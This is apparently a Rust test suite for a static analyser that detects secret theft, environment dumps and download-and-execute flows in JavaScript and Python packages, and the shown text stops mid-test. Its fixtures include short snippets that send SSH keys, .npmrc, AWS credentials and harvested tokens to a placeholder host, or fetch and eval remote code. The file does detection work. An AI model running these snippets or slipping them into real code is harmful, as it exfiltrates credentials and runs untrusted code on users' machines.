use super::*;
use crate::segment::segment_file;
use skill_scan_model::Language;

/// `(kind, sink text, source text, via text)` of every flow in a one-file module.
fn flows_of(
    path: &str,
    language: Language,
    text: &str,
) -> Vec<(FlowKind, String, String, Option<String>)> {
    let segments = segment_file(text, language, path);
    let mut out = Vec::new();
    for segment in &segments {
        if segment.grammar.is_none() {
            continue;
        }
        let base = segment.start;
        for flow in &flows(segment, text).flows {
            let sink = &text[base + flow.sink.0..base + flow.sink.1];
            let source_line = text[base + flow.source_at..].lines().next().unwrap_or("");
            let via = flow
                .via
                .as_ref()
                .map(|(at, _)| text[base + at..].lines().next().unwrap_or("").to_string());
            out.push((
                flow.kind,
                sink.lines().next().unwrap_or("").to_string(),
                source_line.to_string(),
                via,
            ));
        }
    }
    out
}

fn js(text: &str) -> Vec<(FlowKind, String, String, Option<String>)> {
    flows_of("index.js", Language::Javascript, text)
}

fn py(text: &str) -> Vec<(FlowKind, String, String, Option<String>)> {
    flows_of("mod.py", Language::Python, text)
}

/// Only the kinds of the flows found, in order.
fn kinds_py(text: &str) -> Vec<FlowKind> {
    py(text).into_iter().map(|f| f.0).collect()
}

fn kinds_js(text: &str) -> Vec<FlowKind> {
    js(text).into_iter().map(|f| f.0).collect()
}

#[test]
fn secret_through_variables_and_a_wrapper_reaches_the_sink() {
    let text = "const fs = require('fs');\nconst os = require('os');\nconst https = require('https');\nfunction send(body) {\n  const req = https.request({ host: 'x.example.invalid' });\n  req.write(body);\n}\nconst p = `${os.homedir()}/.npmrc`;\nconst npmrc = fs.readFileSync(p, 'utf8');\nconst payload = JSON.stringify({ npmrc });\nsend(payload);\n";
    let found = js(text);
    assert_eq!(found.len(), 1, "{found:?}");
    let (kind, sink, source, via) = &found[0];
    assert_eq!(*kind, FlowKind::CredentialToNetwork);
    assert_eq!(sink, "req.write(body)");
    assert!(source.starts_with("fs.readFileSync(p"), "{source}");
    assert_eq!(via.as_deref(), Some("send(payload);"));
}

#[test]
fn hits_carry_a_message_and_the_source_as_related() {
    let text = "import requests\nfrom pathlib import Path\nkey = (Path.home() / '.ssh' / 'id_rsa').read_text()\nrequests.post('https://x.example.invalid', data={'k': f'key={key}'})\n";
    let segments = segment_file(text, Language::Python, "a.py");
    let mut hits = Vec::new();
    (CREDENTIAL_TO_NETWORK.run)(&segments[0], text, &mut |hit| {
        hits.push(hit);
        true
    });
    assert_eq!(hits.len(), 1);
    let detail = hits[0].detail.as_ref().unwrap();
    assert!(
        detail.message.contains("requests.post"),
        "{}",
        detail.message
    );
    assert!(detail.message.contains(".ssh"), "{}", detail.message);
    let (at, note) = &detail.related[0];
    assert!(
        text[*at..].starts_with("(Path.home()") || text[*at..].starts_with("Path.home()"),
        "{}",
        &text[*at..]
    );
    assert!(note.starts_with("secret read here"), "{note}");
}

#[test]
fn env_dump_and_harvested_tokens_reach_the_network_but_one_own_key_does_not() {
    let dump = py("import os, json, requests\npayload = json.dumps({'e': os.environ.copy()})\nrequests.post('https://x.example.invalid', data=payload)\n");
    assert_eq!(dump.len(), 1);
    assert_eq!(dump[0].0, FlowKind::EnvironmentToNetwork);
    let harvest = js("const t = [process.env.NPM_TOKEN, process.env.GITHUB_TOKEN];\nt.push(process.env.AWS_SECRET_ACCESS_KEY);\nfetch('https://x.example.invalid', { method: 'POST', body: t.join(',') });\n");
    assert_eq!(harvest.len(), 1, "{harvest:?}");
    let own = js("const { STRIPE_API_KEY } = process.env;\nfetch('https://api.stripe.com/v1/charges', { headers: { Authorization: `Bearer ${STRIPE_API_KEY}` } });\n");
    assert!(own.is_empty(), "{own:?}");
}

#[test]
fn a_fallback_chain_of_keys_is_one_key_but_a_collection_of_them_is_a_harvest() {
    // A client takes its key from its settings or from one of two variable names, and a second
    // provider's key in another branch: one key per request, sent to the service it belongs to.
    let chain = js(concat!(
        "function apiKey(cfg, provider) {\n",
        "  if (provider === 'speech') return cfg.key || process.env.SPEECH_API_KEY || process.env.VOICE_API_KEY;\n",
        "  return cfg.other ?? process.env.TEXT_API_KEY;\n",
        "}\n",
        "async function call(cfg, provider, base) {\n",
        "  const key = apiKey(cfg, provider);\n",
        "  return fetch(`${base}/v1/run`, { method: 'POST', headers: { Authorization: `Bearer ${key}` }, body: '{}' });\n",
        "}\n",
    ));
    assert!(chain.is_empty(), "{chain:?}");
    let python = py(concat!(
        "import os, requests\n",
        "def key(kind):\n",
        "    return os.environ.get('SPEECH_API_KEY') or os.environ.get('VOICE_API_KEY') if kind == 's' else os.environ.get('TEXT_API_KEY')\n",
        "requests.post(base + '/v1/run', headers={'Authorization': key('s')}, json={})\n",
    ));
    assert!(python.is_empty(), "{python:?}");
    // Early returns, one per provider, and the key put in an object the caller unpacks.
    let returns = js(concat!(
        "function auth(cfg) {\n",
        "  if (cfg.key) return { key: cfg.key, from: 'config' };\n",
        "  const a = process.env.SEARCH_API_KEY;\n  if (a) return { key: a, from: 'a' };\n",
        "  const b = process.env.ROUTER_API_KEY;\n  if (b) return { key: b, from: 'b' };\n",
        "  return { key: process.env.BACKUP_API_KEY, from: 'c' };\n",
        "}\n",
        "fetch(base + '/search', { headers: { 'X-Token': auth(cfg).key } });\n",
    ));
    assert!(returns.is_empty(), "{returns:?}");
    // The same two keys met alone and as a fallback of each other are still two.
    let again = py(concat!(
        "import os, requests\n",
        "edge = os.environ.get('EDGE_TOKEN')\nmain = os.environ.get('MAIN_TOKEN')\n",
        "token = edge or main\n",
        "requests.get(url, headers={'a': edge, 'b': main, 'c': token})\n",
    ));
    assert!(again.is_empty(), "{again:?}");
    // One key met alone on one path and among the alternatives on another is still one key.
    let paths = js(concat!(
        "function braveKey(s) { return s.apiKey || process.env.SEARCH_API_KEY; }\n",
        "function other(s) { const a = process.env.ROUTER_API_KEY; if (a) return { k: a }; return { k: process.env.PLEX_API_KEY }; }\n",
        "async function run(p) {\n",
        "  const key = p.kind === 'x' ? other(p).k : braveKey(p);\n",
        "  const direct = braveKey(p);\n",
        "  return fetch(p.url, { headers: { 'X-Token': p.kind === 'y' ? direct : key } });\n",
        "}\n",
    ));
    assert!(paths.is_empty(), "{paths:?}");
    // Two values put together, one of them a fallback: every name they may carry counts.
    let fallback_in_payload = js(concat!(
        "const found = { npm: process.env.NPM_TOKEN || process.env.NODE_AUTH_TOKEN || '', gh: process.env.GITHUB_TOKEN };\n",
        "fetch(base + '/i', { method: 'POST', body: JSON.stringify(found) });\n",
    ));
    assert_eq!(fallback_in_payload.len(), 1, "{fallback_in_payload:?}");
    // Three keys put together, even as the fallback of something else, are several values.
    let joined = js(concat!(
        "const all = cfg.dump || [process.env.SPEECH_API_KEY, process.env.VOICE_API_KEY, process.env.TEXT_API_KEY].join(',');\n",
        "fetch(base + '/c', { method: 'POST', body: all });\n",
    ));
    assert_eq!(joined.len(), 1, "{joined:?}");
    assert_eq!(joined[0].0, FlowKind::EnvironmentToNetwork);
    let each = js(concat!(
        "const a = process.env.SPEECH_API_KEY || '';\nconst b = process.env.VOICE_API_KEY || '';\n",
        "const c = process.env.TEXT_API_KEY || '';\n",
        "fetch(base + '/c', { method: 'POST', body: JSON.stringify({ a, b, c }) });\n",
    ));
    assert_eq!(each.len(), 1, "{each:?}");
}

#[test]
fn a_helper_reading_named_variables_of_the_environment_reads_those_variables() {
    // Settings resolved from the environment passed in: a login sends the password to the server the
    // same settings name, not the environment.
    let settings = js(concat!(
        "function clean(v) { return v ? v.trim() : ''; }\n",
        "function resolve(cfg, env = process.env) {\n",
        "  const server = clean(cfg.server) || clean(env.CHAT_SERVER);\n",
        "  const user = clean(cfg.user) || clean(env.CHAT_USER);\n",
        "  const password = clean(cfg.password) || clean(env.CHAT_PASSWORD) || undefined;\n",
        "  return { server, user, password };\n",
        "}\n",
        "async function login(opts) {\n",
        "  const env = opts.env ?? process.env;\n",
        "  const s = resolve(opts.cfg, env);\n",
        "  return fetch(`${s.server}/login`, { method: 'POST', body: JSON.stringify({ user: s.user, password: s.password }) });\n",
        "}\n",
    ));
    assert!(settings.is_empty(), "{settings:?}");
    // Three secrets read from the parameter and sent, in the helper or by its caller, are a harvest.
    let harvest = js(concat!(
        "function grab(env) { return [env.NPM_TOKEN, env.GITHUB_TOKEN, env.AWS_SECRET_ACCESS_KEY].join(':'); }\n",
        "fetch('https://x.example.invalid/c', { method: 'POST', body: grab(process.env) });\n",
    ));
    assert_eq!(harvest.len(), 1, "{harvest:?}");
    let inside = js(concat!(
        "function send(env) { return fetch('https://x.example.invalid/c', { method: 'POST', body: env.NPM_TOKEN + env.GITHUB_TOKEN + env.AWS_SECRET_ACCESS_KEY }); }\n",
        "send(process.env);\n",
    ));
    assert_eq!(inside.len(), 1, "{inside:?}");
    // The environment wrapped in an object and read back by a lower-case field is still all of it.
    let wrapped = js(concat!(
        "function send(data) { return fetch('https://x.example.invalid/c', { method: 'POST', body: JSON.stringify(data.env) }); }\n",
        "send({ env: process.env });\n",
    ));
    assert_eq!(wrapped.len(), 1, "{wrapped:?}");
    let whole = js(concat!(
        "function send(env) { return fetch('https://x.example.invalid/c', { method: 'POST', body: JSON.stringify(env) + env.HOME }); }\n",
        "send(process.env);\n",
    ));
    assert_eq!(whole.len(), 1, "{whole:?}");
}

#[test]
fn downloads_reaching_exec_through_promises_and_files() {
    let promise = js("fetch('https://x.example.invalid/p.js').then((r) => r.text()).then((code) => eval(code));\n");
    assert_eq!(promise.len(), 1, "{promise:?}");
    assert_eq!(promise[0].0, FlowKind::DownloadToExec);
    let dropped = js("const https = require('https');\nconst fs = require('fs');\nconst { spawn } = require('child_process');\nconst dest = '/tmp/x';\nhttps.get('https://x.example.invalid/bin', (res) => {\n  const file = fs.createWriteStream(dest);\n  res.pipe(file);\n  file.on('finish', () => spawn(dest, [], { detached: true }));\n});\n");
    assert_eq!(dropped.len(), 1, "{dropped:?}");
    assert!(dropped[0].1.starts_with("spawn(dest"));
    let retrieved = py("import os, urllib.request as u\nu.urlretrieve('https://x.example.invalid/a', '/tmp/a')\np = '/tmp/a'\nurl = 'https://x.example.invalid/b'\nu.urlretrieve(url, p)\nos.system(p)\n");
    assert_eq!(retrieved.len(), 1, "{retrieved:?}");
}

#[test]
fn a_download_handed_to_a_timer_or_loaded_as_an_addon_runs() {
    let timer = kinds_js("const https = require('https');\nhttps.get('https://x.example.invalid/t.js', (res) => {\n  let body = '';\n  res.on('data', (c) => { body += c; });\n  res.on('end', () => setTimeout(body, 10));\n});\n");
    assert_eq!(timer, vec![FlowKind::DownloadToExec]);
    // A function handed to a timer is called, and nothing downloaded reaches it.
    let retry = js("const https = require('https');\nfunction ping(u) { https.get(u, (r) => r.resume()).on('error', () => setTimeout(() => ping(u), 500)); }\nconst tick = () => console.log('t');\nsetTimeout(tick, 10);\n");
    assert!(retry.is_empty(), "{retry:?}");
    let addon = js("const https = require('https');\nconst fs = require('fs');\nconst dest = '/tmp/x.node';\nhttps.get('https://x.example.invalid/a.node', (res) => {\n  const out = fs.createWriteStream(dest);\n  res.pipe(out);\n  out.on('finish', () => { const m = { exports: {} }; process.dlopen(m, dest); });\n});\n");
    assert_eq!(addon.len(), 1, "{addon:?}");
    assert_eq!(addon[0].0, FlowKind::DownloadToExec);
    // A shipped prebuilt addon is the package's own code.
    let shipped = js("const path = require('path');\nconst m = { exports: {} };\nprocess.dlopen(m, path.join(__dirname, 'prebuilds', 'x.node'));\n");
    assert!(shipped.is_empty(), "{shipped:?}");
}

#[test]
fn an_awaited_response_read_in_one_expression_is_a_download() {
    // The grammar reads `await (…)` as a call of a function named `await`.
    for text in [
        "(async () => {\n  const code = await (await fetch('https://x.example.invalid/p.js')).text();\n  eval(code);\n})();\n",
        "const code = await (await fetch('https://x.example.invalid/p.js')).text();\neval(code);\n",
    ] {
        let found = js(text);
        assert_eq!(found.len(), 1, "{text}\n{found:?}");
        assert_eq!(found[0].0, FlowKind::DownloadToExec);
    }
    let ctor = js("const AF = Object.getPrototypeOf(async function () {}).constructor;\nfetch('https://x.example.invalid/b').then((r) => r.text()).then((src) => new AF('require', src)).then((f) => f(require));\n");
    assert_eq!(ctor.len(), 1, "{ctor:?}");
    assert_eq!(ctor[0].0, FlowKind::DownloadToExec);
    let shape = js("const Proto = Object.getPrototypeOf(async function () {}).name;\nfetch('https://x.example.invalid/b').then((r) => r.text()).then((src) => new Proto(src));\n");
    assert!(shape.is_empty(), "{shape:?}");
    let local = js("const code = await (await import('./page.js')).render();\neval(code);\n");
    assert!(local.is_empty(), "{local:?}");
}

#[test]
fn parsed_json_and_hashed_downloads_are_not_code() {
    assert!(py("import requests, subprocess\ncfg = requests.get('https://x.example.invalid/c').json()\nsubprocess.run(['git', 'clone', cfg['repo']])\n").is_empty());
    let hashed = js("const crypto = require('crypto');\nconst fs = require('fs');\nasync function f(dest) {\n  const data = await (await fetch('https://x.example.invalid/b')).arrayBuffer();\n  const h = crypto.createHash('sha256').update(Buffer.from(data)).digest('hex');\n  fs.writeFileSync(dest, Buffer.from(data));\n  fs.chmodSync(dest, 0o755);\n}\n");
    assert!(hashed.is_empty(), "{hashed:?}");
}

#[test]
fn what_a_library_reads_back_from_a_written_download_is_the_download() {
    // Hidden text pulled out of a downloaded image, the path in a variable or written out twice.
    let by_name = py("import requests\nfrom stego import lsb\np = tmp + '/pic.png'\nr = requests.get('https://x.example.invalid/pic.png')\nwith open(p, 'wb') as f:\n    f.write(r.content)\nexec(lsb.reveal(p))\n");
    assert_eq!(by_name.len(), 1, "{by_name:?}");
    let written_twice = py("import os, requests\nfrom stego import lsb\nr = requests.get('https://x.example.invalid/pic.png')\nwith open(f'{os.getenv(\"TEMP\")}/pic.png', 'wb') as f:\n    f.write(r.content)\nexec(lsb.reveal(f'{os.getenv(\"TEMP\")}/pic.png'))\n");
    assert_eq!(written_twice.len(), 1, "{written_twice:?}");
    let read_back = py("import requests, urllib.request\nurllib.request.urlretrieve('https://x.example.invalid/s.py', dest)\nexec(open(dest).read())\n");
    assert_eq!(read_back.len(), 1, "{read_back:?}");
    // Read back as an image or a document, and never run: data.
    let shown = py("import requests\nfrom PIL import Image\nr = requests.get('https://x.example.invalid/pic.png')\nwith open(p, 'wb') as f:\n    f.write(r.content)\nthumb = Image.open(p)\nthumb.show()\nprint(open(p, 'rb').read()[:4])\nexec(other_code)\n");
    assert!(shown.is_empty(), "{shown:?}");
}

#[test]
fn a_shell_quoted_download_is_an_argument_not_code() {
    let quoted = py("import requests, shlex, subprocess\ntext = requests.get('https://x.example.invalid/' + name).text\nsubprocess.run(['bash', '-c', cmd.replace('{md}', shlex.quote(text))])\n");
    assert!(quoted.is_empty(), "{quoted:?}");
    let unquoted = py("import requests, subprocess\ntext = requests.get('https://x.example.invalid/' + name).text\nsubprocess.run(['bash', '-c', cmd.replace('{md}', text)])\n");
    assert_eq!(unquoted.len(), 1, "{unquoted:?}");
    // A quoted secret is still the secret.
    let token = py("import os, json, shlex, requests\npayload = shlex.quote(json.dumps({'e': os.environ.copy()}))\nrequests.post('https://x.example.invalid', data=payload)\n");
    assert!(!token.is_empty(), "{token:?}");
}

#[test]
fn a_download_passed_to_a_helper_that_hashes_it_is_checked() {
    // The body is assembled in `https.get` callbacks and handed to a helper that hashes its parameter.
    let helper = concat!(
        "const crypto = require('crypto');\nconst fs = require('fs');\nconst https = require('https');\n",
        "const dest = '/tmp/tool';\n",
        "function matches(buf, expected) {\n  const hash = crypto.createHash('sha256');\n  hash.update(buf);\n  return hash.digest('hex') === expected;\n}\n",
        "https.get('https://x.example.invalid/tool', (res) => {\n  const parts = [];\n  res.on('data', (p) => parts.push(p));\n",
        "  res.on('end', () => {\n    const body = Buffer.concat(parts);\n    if (!matches(body, PINNED)) return;\n",
        "    fs.writeFileSync(dest, body);\n    fs.chmodSync(dest, 0o755);\n  });\n});\n",
    );
    assert!(js(helper).is_empty(), "{:?}", js(helper));
    // A helper that hashes something else checks nothing.
    let other = helper.replace("hash.update(buf)", "hash.update(expected)");
    assert_eq!(js(&other).len(), 1, "{:?}", js(&other));
    let py_helper = concat!(
        "import hashlib, os, urllib.request\n",
        "def ok(data):\n    return hashlib.sha256(data).hexdigest() == PINNED\n",
        "blob = urllib.request.urlopen('https://x.example.invalid/t').read()\n",
        "p = '/tmp/t'\nif ok(blob):\n    with open(p, 'wb') as f:\n        f.write(blob)\n    os.chmod(p, 0o755)\n",
    );
    assert!(py(py_helper).is_empty(), "{:?}", py(py_helper));
    let py_other = py_helper.replace("sha256(data)", "sha256(PINNED)");
    assert_eq!(py(&py_other).len(), 1, "{:?}", py(&py_other));
}

#[test]
fn decoded_data_reaching_exec_through_a_helper() {
    let found = py("import base64, zlib\ndef run(src):\n    exec(compile(src, '<x>', 'exec'))\nblob = 'eJzLSM3JyVcozy/KSQEAGgQEXQ=='\nrun(zlib.decompress(base64.b64decode(blob)))\n");
    assert_eq!(found.len(), 1, "{found:?}");
    assert_eq!(found[0].0, FlowKind::DecodedToExec);
    assert_eq!(
        found[0].3.as_deref(),
        Some("run(zlib.decompress(base64.b64decode(blob)))")
    );
    let rot = py("import codecs\nexec(codecs.decode('cevag(1)', 'rot13'))\n");
    assert_eq!(rot.len(), 1);
    let char_codes =
        js("const s = String.fromCharCode(97, 108, 101, 114, 116);\nnew Function(s)();\n");
    assert_eq!(char_codes.len(), 1, "{char_codes:?}");
}

#[test]
fn names_that_merely_look_like_sinks_are_not_sinks() {
    // A regex's exec, a method named eval, a local function called fetch.
    let text = "const fs = require('fs');\nconst data = fs.readFileSync('.env', 'utf8');\n/^x/.exec(data);\nparser.eval(data);\nfunction fetch(x) { return x.length; }\nfetch(data);\n";
    assert!(js(text).is_empty(), "{:?}", js(text));
}

#[test]
fn variables_in_different_functions_do_not_mix() {
    let text = "const fs = require('fs');\nfunction a() { const data = fs.readFileSync('/home/u/.ssh/id_rsa'); return data.length; }\nfunction b() { const data = JSON.stringify({ ok: 1 }); fetch('https://x.example.invalid', { method: 'POST', body: data }); }\n";
    assert!(js(text).is_empty(), "{:?}", js(text));
}

#[test]
fn oversized_segments_are_skipped_with_a_note() {
    let text = format!("var a = 1;{}", " ".repeat(MAX_SEGMENT_BYTES));
    let segments = segment_file(&text, Language::Javascript, "big.js");
    let result = flows(&segments[0], &text);
    assert!(result.flows.is_empty());
    assert!(result
        .note
        .as_deref()
        .unwrap_or("")
        .contains("flow analysis"));
    assert_eq!(segments[0].notes().count(), 1);
}

#[test]
fn a_helper_that_reads_the_file_it_is_given_reads_a_secret_when_given_a_credential_path() {
    let text = "const fs = require('fs');\nconst os = require('os');\nconst path = require('path');\nfunction readConfig(name) {\n  try { return fs.readFileSync(path.join(os.homedir(), name), 'utf8'); } catch (_) { return ''; }\n}\nconst cfg = readConfig('.npmrc');\nconst other = readConfig('.myapprc');\nfetch('https://x.example.invalid', { method: 'POST', body: JSON.stringify({ other }) });\nfetch('https://x.example.invalid', { method: 'POST', body: cfg });\n";
    let found = js(text);
    assert_eq!(found.len(), 1, "{found:?}");
    assert_eq!(found[0].2, "readConfig('.npmrc');");
}

#[test]
fn a_request_to_the_host_named_in_the_credential_file_is_its_own_service() {
    let own = js("const fs = require('fs');\nconst text = fs.readFileSync('/home/u/.npmrc', 'utf8');\nconst base = text.split('=')[1];\nfetch(`${base}/left-pad`);\nfetch(base + '/-/whoami', { headers: { authorization: text } });\n");
    assert!(own.is_empty(), "{own:?}");
    let stolen = js("const fs = require('fs');\nconst text = fs.readFileSync('/home/u/.npmrc', 'utf8');\nfetch(`https://x.example.invalid/?t=${text}`);\nconst u = 'https://x.example.invalid/?t=' + text;\nfetch(u);\n");
    assert_eq!(stolen.len(), 2, "{stolen:?}");
}

#[test]
fn a_downloaded_name_in_a_path_is_not_downloaded_code() {
    // chromedriver's installer: the version string fetched from a JSON index names the folder of the
    // binary it then runs with --version.
    let text = "const axios = require('axios');\nconst path = require('path');\nconst { spawn } = require('child_process');\nasync function install(dir) {\n  const response = await axios.request({ url: 'https://x.example.invalid/versions.json' });\n  const version = response.data.version;\n  const bin = path.resolve(dir, version, 'chromedriver');\n  spawn(bin, ['--version']);\n}\n";
    assert!(js(text).is_empty(), "{:?}", js(text));
}

#[test]
fn data_fed_to_a_process_is_not_the_process() {
    assert!(js("const { execa } = require('execa');\nasync function f() { const response = await fetch('https://x.example.invalid'); await execa('sort', [], { stdin: response.body }); }\n").is_empty());
    assert!(py("import subprocess, requests\ndata = requests.get('https://x.example.invalid').content\nsubprocess.run(['sort'], input=data)\n").is_empty());
    assert_eq!(py("import subprocess, requests\ndata = requests.get('https://x.example.invalid').text\nsubprocess.run(args=['sh', '-c', data])\n").len(), 1);
}

#[test]
fn minified_functions_sharing_a_name_are_told_apart_by_scope() {
    // Two unrelated functions both called `a`: one sends its argument, the other only logs it.
    let text = "function x(){function a(b){fetch('https://x.example.invalid',{method:'POST',body:b})}return a}\nfunction y(){function a(b){console.log(b)}a(JSON.stringify(process.env))}\n";
    assert!(js(text).is_empty(), "{:?}", js(text));
    let same_scope = "function y(){function a(b){fetch('https://x.example.invalid',{method:'POST',body:b})}a(JSON.stringify(process.env))}\n";
    assert_eq!(js(same_scope).len(), 1);
}

#[test]
fn data_written_to_a_request_is_not_its_destination() {
    let text = "const fs = require('fs');\nconst http = require('http');\nconst body = fs.readFileSync('/home/u/.npmrc', 'utf8');\nconst req = http.request({ host: '198.51.100.7', method: 'POST' });\nreq.end(body);\n";
    assert_eq!(js(text).len(), 1, "{:?}", js(text));
}

#[test]
fn python_handles_on_credential_files_are_their_contents() {
    let upload = py("import requests, os\nrequests.post('https://x.example.invalid/u', files={'f': open(os.path.expanduser('~/.aws/credentials'), 'rb')})\n");
    assert_eq!(upload.len(), 1, "{upload:?}");
    let loaded = py("import json, requests\nwith open('/home/u/.docker/config.json') as f:\n    auths = json.load(f)['auths']\nrequests.post('https://x.example.invalid/d', json=auths)\n");
    assert_eq!(loaded.len(), 1, "{loaded:?}");
    let config =
        py("import json\nwith open('settings.json') as f:\n    cfg = json.load(f)\nprint(cfg)\n");
    assert!(config.is_empty());
}

#[test]
fn one_chr_and_eval_namespaces_are_not_hidden_code() {
    // numpy.f2py: a parameter value turned into a character, then the dict used as eval's namespace.
    let text = "def get(vars, params, n, expr):\n    params[n] = chr(params[n])\n    return eval(expr, {}, params)\n";
    assert!(py(text).is_empty(), "{:?}", py(text));
    let hidden = py("cmd = ''.join(chr(c) for c in [105, 100, 59, 32])\nexec(cmd)\n");
    assert_eq!(hidden.len(), 1, "{hidden:?}");
    let literal = py("import os\nos.system(chr(105) + chr(100))\n");
    assert_eq!(literal.len(), 1, "{literal:?}");
}

#[test]
fn a_socket_is_not_downloaded_data_but_what_it_receives_is() {
    // fastmcp's test harness: a port number from a bound socket names the server to start.
    let port = py("import socket, subprocess\nwith socket.socket() as sock:\n    sock.bind(('127.0.0.1', 0))\n    port = sock.getsockname()[1]\nsubprocess.Popen(['python', 'server.py', str(port)])\n");
    assert!(port.is_empty(), "{port:?}");
    let received = py("import socket\ns = socket.create_connection(('x.example.invalid', 4444))\ncode = s.recv(4096)\nexec(code)\n");
    assert_eq!(received.len(), 1, "{received:?}");
    let js_response = js("const https = require('https');\nconst req = https.request({ host: 'x.example.invalid' });\nreq.on('response', (res) => { let b = ''; res.on('data', (d) => { b += d; }); res.on('end', () => eval(b)); });\nreq.end();\n");
    assert_eq!(js_response.len(), 1, "{js_response:?}");
}

#[test]
fn decoding_runtime_input_is_serialisation_not_hiding() {
    // PyInstaller's isolated child: code objects arrive base64-encoded over a pipe from the parent.
    let pipe = py("import marshal, types\nfrom base64 import b64decode\ndef run(read_fh):\n    code = marshal.loads(b64decode(read_fh.readline().strip()))\n    function = types.FunctionType(code, {})\n    return function()\n");
    assert!(pipe.is_empty(), "{pipe:?}");
    let embedded = py("import marshal, types\nfrom base64 import b64decode\nBLOB = 'YwAAAAAAAAAAAAAAAAAAAAAAAAA='\ncode = marshal.loads(b64decode(BLOB))\nexec(code)\n");
    assert_eq!(embedded.len(), 1, "{embedded:?}");
    let wrapper = js("function d(s) { return atob(s); }\neval(d('Y29uc29sZS5sb2coMSk='));\n");
    assert_eq!(wrapper.len(), 1, "{wrapper:?}");
}

#[test]
fn running_what_a_cipher_decrypts_from_a_constant_is_decoded_code() {
    let constant = py("from Crypto.Cipher import AES\nKEY = b'0123456789abcdef'\nBLOB = 'q4n3cHQ2xJ9Yx0m2nRk2y4m1tQ=='\ndef run():\n    c = AES.new(KEY, AES.MODE_CBC, KEY)\n    code = c.decrypt(base64.b64decode(BLOB))\n    exec(code.rstrip(b'\\x00'))\nrun()\n");
    assert_eq!(constant.len(), 1, "{constant:?}");
    // A vault that decrypts what the caller hands it runs nothing it hid itself.
    let runtime = py("from cryptography.fernet import Fernet\ndef load(key, token):\n    return Fernet(key).decrypt(token)\n");
    assert!(runtime.is_empty(), "{runtime:?}");
}

#[test]
fn a_timer_given_a_function_name_runs_the_function() {
    let text = "const dns = require('dns');\nfunction sendKA() { sock.write('ka'); }\ndns.lookup(host, (err, address) => { connect(address); setInterval(sendKA, 1000); });\n";
    assert!(js(text).is_empty(), "{:?}", js(text));
}

#[test]
fn host_identity_reaches_a_request_through_encoding() {
    let text = "import os, base64, requests\nmsg = os.uname()[1] + ',' + os.getcwd()  # the host name carries it\nb = base64.b64encode(msg.encode()).decode()\nrequests.get('https://c.example.invalid/?d=' + b)\n";
    let found = py(text);
    assert!(
        found.iter().any(|f| f.0 == FlowKind::HostInfoToNetwork),
        "{found:?}"
    );
}

#[test]
fn the_working_folder_sent_is_host_identity_and_used_locally_is_not() {
    // The folder's path names the user: a dependency-confusion beacon sends it alone.
    let sent = "import os, requests\ndata = {'pkg': 'x', 'cwd': os.getcwd()}\nrequests.post('https://c.example.invalid/', json=data)\n";
    let found = py(sent);
    assert!(
        found.iter().any(|f| f.0 == FlowKind::HostInfoToNetwork),
        "{found:?}"
    );
    let local = "import os, requests\nconfig = os.path.join(os.getcwd(), 'app.toml')\nrequests.get('https://api.example.invalid/v1/version')\n";
    assert!(py(local).is_empty(), "{:?}", py(local));
}

#[test]
fn host_identity_logged_is_quiet_and_looked_up_is_a_flow() {
    let text = "import socket, logging, requests\nhost = socket.gethostname()\nlogging.info('on %s', host)\nrequests.get('https://api.example.invalid/v1')\n";
    assert!(py(text).is_empty(), "{:?}", py(text));
    let js_text = "const os = require('os');\nconst dns = require('dns');\ndns.lookup(os.hostname() + '.x.example.invalid', () => {});\n";
    assert!(js(js_text)
        .iter()
        .any(|f| f.0 == FlowKind::HostInfoToNetwork));
}

#[test]
fn a_url_the_caller_passes_is_a_flow_only_where_a_constant_is_passed() {
    // A preload helper: the module runs whatever URL its user configured; nothing in the code names one.
    let configured = "import urllib.request\ndef download_module(url):\n    with urllib.request.urlopen(url) as response:\n        source = response.read()\n    exec(compile(source, url, 'exec'), {})\ndef preload(names):\n    for name in names:\n        download_module(name)\n";
    assert!(py(configured).is_empty(), "{:?}", py(configured));
    let unpickle = "import pickle, requests\ndef load_url(url, trusted=False):\n    if not trusted:\n        raise ValueError(url)\n    response = requests.get(url)\n    return pickle.loads(response.content)\n";
    assert!(py(unpickle).is_empty(), "{:?}", py(unpickle));
    // The same helper handed a URL written in the code (directly, through a constant or another helper).
    let constant = format!("{configured}download_module('https://x.example.invalid/stage.py')\n");
    let found = py(&constant);
    assert_eq!(found.len(), 1, "{found:?}");
    assert_eq!(found[0].0, FlowKind::DownloadToExec);
    assert_eq!(
        found[0].3.as_deref(),
        Some("download_module('https://x.example.invalid/stage.py')")
    );
    let chained = format!("{configured}URL = 'https://x.example.invalid/stage.py'\npreload([URL])\ndownload_module(URL)\n");
    assert_eq!(py(&chained).len(), 1, "{:?}", py(&chained));
    // A host written in the code is the package's own choice, parameter or not.
    let own_host = py("import requests\ndef update(name):\n    code = requests.get('https://x.example.invalid/' + name).text\n    exec(code)\n");
    assert_eq!(own_host.len(), 1, "{own_host:?}");
    // A constant default is a URL written in the code.
    let defaulted = py("import pickle, urllib.request\ndef refresh(url: str = 'https://x.example.invalid/state'):\n    payload = urllib.request.urlopen(url).read()\n    return pickle.loads(payload)\n");
    assert_eq!(defaulted.len(), 1, "{defaulted:?}");
    // Saved to a file and started as a program: a dropper, whoever passes the URL.
    let dropper = py("import subprocess, requests\ndef main(url, filename):\n    response = requests.get(url)\n    with open(filename, 'wb') as f:\n        f.write(response.content)\n    subprocess.run(['pythonw', filename])\n");
    assert_eq!(dropper.len(), 1, "{dropper:?}");
    let js_param = js("async function run(url) {\n  const res = await fetch(url);\n  eval(await res.text());\n}\nrun('https://x.example.invalid/p.js');\n");
    assert_eq!(js_param.len(), 1, "{js_param:?}");
}

#[test]
fn one_punctuation_char_code_is_not_hidden_code() {
    // A test helper joins its source with `;` written as a code.
    let joined = js("function wrap(fun) {\n  var F = Function;\n  return new F(helpers.join(';') + String.fromCharCode(59) + 'return (' + fun.toString() + ')();');\n}\n");
    assert!(joined.is_empty(), "{joined:?}");
    let letter = js("new Function(String.fromCharCode(120) + '()')();\n");
    assert_eq!(letter.len(), 1, "{letter:?}");
}

#[test]
fn a_build_placeholder_is_not_an_embedded_payload() {
    // A self-installer template: the build step writes the encoded source in place of the marker.
    let template = "import base64\nBLOB = \"\"\"\n@PACKED-SOURCE@\n\"\"\"\nSOURCE = base64.b64decode(BLOB.encode('ascii'))\nexec(SOURCE.decode(), globals())\n";
    assert!(py(template).is_empty(), "{:?}", py(template));
    let filled = template.replace("@PACKED-SOURCE@", "cHJpbnQoJ2hpJyk=");
    assert_eq!(py(&filled).len(), 1, "{:?}", py(&filled));
}

#[test]
fn a_key_sent_to_a_local_server_is_not_carried_off() {
    // A CLI checks the local inference server it started, with the key the user set.
